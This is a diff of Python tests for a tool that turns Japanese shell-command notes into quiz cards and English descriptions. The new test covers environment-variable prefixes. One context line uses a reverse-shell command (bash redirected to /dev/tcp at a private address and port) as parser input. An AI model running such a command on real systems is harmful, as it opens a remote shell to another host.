@@ -186,3 +186,19 @@ def test_english_says_a_shell_loop_as_a_loop_and_never_reads_its_syntax_as_comma
     # `\;` ends -exec's command and `>& file` redirects a stream: neither is a command of its own
     assert command_en(g, "find . -name '*.tmp' -exec rm {} \\;") == "A `find` command"
     assert command_en(g, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1") == "A `bash` command"
+
+
+def test_variables_set_for_a_command_are_part_of_its_line_and_study_shows_them():
+    from dockquiz.grading.forms import card_values
+
+    text = "## デバッグ\n\n```\n# 通信を表示してコミット\nGIT_TRACE=1 git commit -m temp\n```\n"
+    drafts = parse_notes(text, deck="x").drafts
+    assert [(d.prompt_ja, d.answer, d.command, d.prompt_en) for d in drafts] == [
+        (
+            "通信を表示してコミット",
+            "GIT_TRACE=1 git commit -m temp",
+            "git commit",
+            "Record the staged changes with message temp, with an environment variable set",
+        )
+    ]
+    assert card_values("command", "GIT_TRACE=1 git commit -m temp") == ["GIT_TRACE=1", "temp"]
